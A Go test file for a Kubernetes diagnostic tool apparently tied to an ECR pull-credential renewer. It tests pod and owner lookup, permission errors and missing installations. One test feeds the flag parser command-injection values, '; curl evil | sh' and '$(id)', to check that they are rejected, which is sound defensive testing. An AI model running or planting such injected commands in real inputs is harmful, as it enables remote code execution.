package doctor

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

// collector returns one for an API server that has the objects at the paths, and nothing
// at others. Where an object is nil, the server forbids to read it.
func collector(t *testing.T, objects map[string]any) *Collector {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		object, ok := objects[r.URL.Path]
		status := metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Code: http.StatusNotFound, Reason: metav1.StatusReasonNotFound}
		if ok && object == nil || r.Method != http.MethodGet {
			status.Code, status.Reason, status.Message = http.StatusForbidden, metav1.StatusReasonForbidden, `cannot create resource "pods"`
		}
		if object == nil || r.Method != http.MethodGet {
			w.WriteHeader(int(status.Code))
			object = status
		}
		if err := json.NewEncoder(w).Encode(object); err != nil {
			t.Error(err)
		}
	}))
	t.Cleanup(server.Close)
	client, err := kubernetes.NewForConfig(&rest.Config{Host: server.URL})
	if err != nil {
		t.Fatal(err)
	}
	return &Collector{Client: client, Now: func() time.Time { return now }}
}

// owned returns the metadata of an object with a controller, created minutes ago.
func owned(name, kind, owner, uid string, minutes int) metav1.ObjectMeta {
	yes := true
	return metav1.ObjectMeta{Name: name, Namespace: "shop", UID: types.UID("uid-of-" + name), Labels: map[string]string{"app": "web"},
		CreationTimestamp: metav1.Time{Time: now.Add(-time.Duration(minutes) * time.Minute)},
		OwnerReferences:   []metav1.OwnerReference{{Kind: kind, Name: owner, UID: types.UID(uid), Controller: &yes}}}
}

// podOf returns a pod of an ECR image that runs, or waits.
func podOf(meta metav1.ObjectMeta, waits bool) corev1.Pod {
	pod := corev1.Pod{ObjectMeta: meta, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image}}}, Status: corev1.PodStatus{Phase: corev1.PodRunning}}
	if waits {
		pod.Status = corev1.PodStatus{Phase: corev1.PodPending, ContainerStatuses: []corev1.ContainerStatus{{Name: "app", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ErrImagePull"}}}}}
	}
	return pod
}

// TestPodsOfAWorkload finds the pod to explain.
func TestPodsOfAWorkload(t *testing.T) {
	template := corev1.PodTemplateSpec{Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image}}}}
	selector := &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}}
	const (
		pods        = "/api/v1/namespaces/shop/pods"
		deployment  = "/apis/apps/v1/namespaces/shop/deployments/web"
		replicaSets = "/apis/apps/v1/namespaces/shop/replicasets"
		cronJob     = "/apis/batch/v1/namespaces/shop/cronjobs/web"
		jobs        = "/apis/batch/v1/namespaces/shop/jobs"
	)
	meta := metav1.ObjectMeta{Name: "web", Namespace: "shop", UID: "web"}
	web := appsv1.Deployment{ObjectMeta: meta, Spec: appsv1.DeploymentSpec{Selector: selector, Template: template}}
	nightly := batchv1.CronJob{ObjectMeta: meta, Spec: batchv1.CronJobSpec{JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: template}}}}
	sets := appsv1.ReplicaSetList{Items: []appsv1.ReplicaSet{{ObjectMeta: owned("web-1", "Deployment", "web", "web", 9)}, {ObjectMeta: owned("webs-1", "Deployment", "webs", "webs", 9)}}}
	runs := batchv1.JobList{Items: []batchv1.Job{{ObjectMeta: owned("web-1", "CronJob", "web", "web", 9)}, {ObjectMeta: owned("web-2", "CronJob", "web", "web", 5)}, {ObjectMeta: owned("webs-1", "CronJob", "webs", "webs", 1)}}}
	for name, c := range map[string]struct {
		kind    string
		objects map[string]any
		pod     string // that is explained
		text    string
	}{
		"a newer pod with the labels belongs to another": {"deployment", map[string]any{deployment: web, replicaSets: sets, pods: corev1.PodList{Items: []corev1.Pod{
			podOf(owned("mine", "ReplicaSet", "web-1", "uid-of-web-1", 5), false), podOf(owned("theirs", "ReplicaSet", "webs-1", "uid-of-webs-1", 1), true)}}}, "mine", ""},
		"ReplicaSets may not be listed": {"deployment", map[string]any{deployment: web, replicaSets: nil, pods: corev1.PodList{Items: []corev1.Pod{
			podOf(owned("mine", "ReplicaSet", "web-1", "uid-of-web-1", 5), false), podOf(owned("theirs", "ReplicaSet", "web-api-1", "uid-of-web-api-1", 1), true)}}}, "mine", "list replicasets in namespace shop"},
		"pods may not be listed": {"deployment", map[string]any{deployment: web, replicaSets: sets, pods: nil}, "", "? kubelet      you are not allowed to list pods in namespace shop"},
		"there are no pods":      {"deployment", map[string]any{deployment: web, replicaSets: sets, pods: corev1.PodList{}}, "", "no pod exists yet"},
		"the newest of a CronJob": {"cronjob", map[string]any{cronJob: nightly, jobs: runs, pods: corev1.PodList{Items: []corev1.Pod{
			podOf(owned("old", "Job", "web-1", "uid-of-web-1", 9), false), podOf(owned("new", "Job", "web-2", "uid-of-web-2", 5), false), podOf(owned("theirs", "Job", "webs-1", "uid-of-webs-1", 1), true)}}}, "new", ""},
		"the stuck of a CronJob": {"cronjob", map[string]any{cronJob: nightly, jobs: runs, pods: corev1.PodList{Items: []corev1.Pod{
			podOf(owned("old", "Job", "web-1", "uid-of-web-1", 9), true), podOf(owned("new", "Job", "web-2", "uid-of-web-2", 5), false)}}}, "old", ""},
		"a CronJob without a Job":   {"cronjob", map[string]any{cronJob: nightly, jobs: batchv1.JobList{}, pods: corev1.PodList{}}, "", "no pod exists yet"},
		"a CronJob, and few rights": {"cronjob", map[string]any{cronJob: nightly, jobs: nil, pods: nil}, "", "you are not allowed to list pods in namespace shop"},
	} {
		t.Run(name, func(t *testing.T) {
			for path, object := range map[string]any{
				"/apis/apps/v1/deployments": nil, "/apis/apps/v1/namespaces/pullpass/deployments": nil, "/api/v1/namespaces/shop": nil, "/api/v1/namespaces/shop/events": nil,
				"/api/v1/namespaces/shop/secrets/pullpass": nil, "/api/v1/namespaces/pullpass/secrets/pullpass-aws-credentials-" + host: nil, "/api/v1/namespaces/shop/serviceaccounts/default": nil,
			} {
				c.objects[path] = object
			}
			f, err := collector(t, c.objects).Collect(t.Context(), Target{Namespace: "shop", Kind: c.kind, Name: "web"})
			if err != nil {
				t.Fatal(err)
			}
			pod := ""
			if f.Pod != nil {
				pod = f.Pod.Name
			}
			if d := Diagnose(f).String(); pod != c.pod || !strings.Contains(d, c.text) {
				t.Errorf("pod %q, want %q and %q:\n%s", pod, c.pod, c.text, d)
			}
		})
	}
}

// TestOwnerOf finds the workload of a pod, with the API group of a foreign one.
func TestOwnerOf(t *testing.T) {
	const set = "/apis/apps/v1/namespaces/shop/replicasets/web-1"
	yes := true
	controller := func(version, kind, name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: "shop", OwnerReferences: []metav1.OwnerReference{{APIVersion: version, Kind: kind, Name: name, Controller: &yes}}}
	}
	ofSet := controller("apps/v1", "ReplicaSet", "web-1")
	for name, c := range map[string]struct {
		pod  metav1.ObjectMeta
		set  any
		want Owner
	}{
		"none":                         {metav1.ObjectMeta{Namespace: "shop"}, nil, Owner{}},
		"a StatefulSet":                {controller("apps/v1", "StatefulSet", "db"), nil, Owner{"statefulset", "db"}},
		"another group's StatefulSet":  {controller("apps.kruise.io/v1beta1", "StatefulSet", "db"), nil, Owner{"statefulset.apps.kruise.io", "db"}},
		"another group's ReplicaSet":   {controller("example.com/v1", "ReplicaSet", "web-1"), nil, Owner{"replicaset.example.com", "web-1"}},
		"a Deployment":                 {ofSet, appsv1.ReplicaSet{ObjectMeta: controller("apps/v1", "Deployment", "web")}, Owner{"deployment", "web"}},
		"a Rollout":                    {ofSet, appsv1.ReplicaSet{ObjectMeta: controller("argoproj.io/v1alpha1", "Rollout", "web")}, Owner{"rollout.argoproj.io", "web"}},
		"a bare ReplicaSet":            {ofSet, appsv1.ReplicaSet{}, Owner{"replicaset", "web-1"}},
		"a ReplicaSet, and few rights": {ofSet, nil, Owner{"replicaset", "web-1"}},
	} {
		t.Run(name, func(t *testing.T) {
			if got := collector(t, map[string]any{set: c.set}).ownerOf(t.Context(), &corev1.Pod{ObjectMeta: c.pod}); got != c.want {
				t.Errorf("%+v, want %+v", got, c.want)
			}
		})
	}
}

// TestNoSuchWorkload explains what does not exist.
func TestNoSuchWorkload(t *testing.T) {
	for _, kind := range []string{"pod", "deployment", "statefulset", "daemonset", "replicaset", "job", "cronjob"} {
		if _, err := collector(t, nil).Collect(t.Context(), Target{Namespace: "shop", Kind: kind, Name: "web"}); !apierrors.IsNotFound(err) {
			t.Errorf("%s: %v", kind, err)
		}
	}
}

// TestNamesOfAnInstallation reads flags that no renewer accepts.
func TestNamesOfAnInstallation(t *testing.T) {
	d := appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "x-renewer", Namespace: "own"}}
	d.Spec.Template.Spec.Containers = []corev1.Container{{Name: "renewer", Args: []string{"--secret-name=a; curl evil | sh", "--credentials-namespace=$(id)"}}}
	if i, _ := installationOf(&d); i.SecretName != "pullpass" || i.CredentialsNS != "own" {
		t.Errorf("%+v", i)
	}
}

// TestNoSuchInstallation searches for an installation that is not there.
func TestNoSuchInstallation(t *testing.T) {
	const all, one = "/apis/apps/v1/deployments", "/apis/apps/v1/namespaces/pulpass/deployments"
	none := appsv1.DeploymentList{}
	for _, c := range []struct{ namespace, release, want string }{
		{"", "", "pullpass is not installed in the cluster"},
		{"pulpass", "", "there is no pullpass installation in namespace pulpass"},
		{"", "pulpass", "there is no release pulpass of pullpass"},
		{"pulpass", "mine", "there is no release mine of pullpass in namespace pulpass"},
	} {
		collect := collector(t, map[string]any{all: none, one: none})
		collect.Namespace, collect.Release = c.namespace, c.release
		i, err := collect.Installation(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		l := installationLink(Facts{Installation: i})
		if l.Cause != NotInstalled || l.Text != c.want || strings.Contains(l.Fix[0], "helm install") != (c.namespace+c.release == "") {
			t.Errorf("%+v, want %q", l, c.want)
		}
	}
}
